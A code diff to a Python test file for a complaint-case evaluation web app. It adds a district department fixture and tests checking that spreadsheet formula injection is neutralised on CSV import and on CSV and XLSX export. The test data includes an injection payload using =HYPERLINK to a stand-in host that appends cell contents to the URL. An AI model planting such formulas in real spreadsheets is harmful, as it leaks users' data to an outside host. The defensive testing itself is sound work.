@@ -20,6 +20,7 @@ from evaluation.accounts.models import Role
 from evaluation.cases.importer import COLUMNS
 from evaluation.cases.models import Case
 from evaluation.extensions import db
+from evaluation.org.models import DepartmentKind
 from evaluation.tabular import MAX_ROWS
 from panels.models import Member
 from tests.conftest import make_department, make_user
@@ -162,6 +163,7 @@ def _column(index: int) -> str:
 def organizer(client, auth):
     make_department("CD-ZJ", "成都市住房和城乡建设局")
     make_department("CD-GA", "成都市公安局")
+    make_department("D-510107", "武侯区人民政府", DepartmentKind.DISTRICT)
     make_user("org", Role.ORGANIZER)
     auth.login("org")
     return client
@@ -253,3 +255,44 @@ def test_a_chunked_api_body_over_the_limit_is_a_413_in_json(api, app, client) ->
     )
     assert response.status_code == 413 and response.get_json()["error"]["status"] == 413
     assert db.session.scalar(sa.select(sa.func.count()).select_from(Case)) == 0
+
+
+# --- formulas: taken in as text, never written out as something a spreadsheet would run -------------------------
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"点击")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]
+
+
+def test_a_formula_looking_cell_is_imported_as_the_text_it_is(organizer) -> None:
+    import csv
+
+    row = _case_row(1)
+    row[CASE_HEADERS.index("诉求内容")] = FORMULAS[0]
+    buffer = io.StringIO()
+    csv.writer(buffer).writerows([CASE_HEADERS, row])
+    preview = _post_file(organizer, "/cases/import", buffer.getvalue().encode(), "f.csv")
+    token = re.search(r'name="token" type="hidden" value="([^"]+)"', preview.get_data(as_text=True)).group(1)
+    assert organizer.post("/cases/import/commit", data={"token": token}).status_code == 302
+    case = db.session.scalar(sa.select(Case))
+    assert case.request_text == FORMULAS[0]
+
+
+def test_exports_neutralise_formulas_in_csv_and_xlsx() -> None:
+    from openpyxl import load_workbook
+
+    from evaluation.tabular import append_row, write_csv
+
+    text = write_csv([["说明", "数"], *[[f, 7] for f in FORMULAS], ["普通文字", -5]]).decode("utf-8-sig")
+    cells = [line.split(",", 1)[0] for line in text.splitlines()[1:]]
+    assert all(c.lstrip('"').startswith("'") for c in cells[: len(FORMULAS)])
+    assert "普通文字,-5" in text  # numbers and plain text untouched
+
+    workbook = Workbook()
+    for value in FORMULAS:
+        append_row(workbook.active, [value, 7])
+    buffer = io.BytesIO()
+    workbook.save(buffer)
+    sheet = load_workbook(io.BytesIO(buffer.getvalue())).active
+    for (cell, number), value in zip(sheet.iter_rows(), FORMULAS, strict=True):
+        assert cell.data_type == "s", value  # text, which Excel shows and does not run
+        assert cell.value in (value, value.replace("\r", "\n"))
+        assert number.value == 7
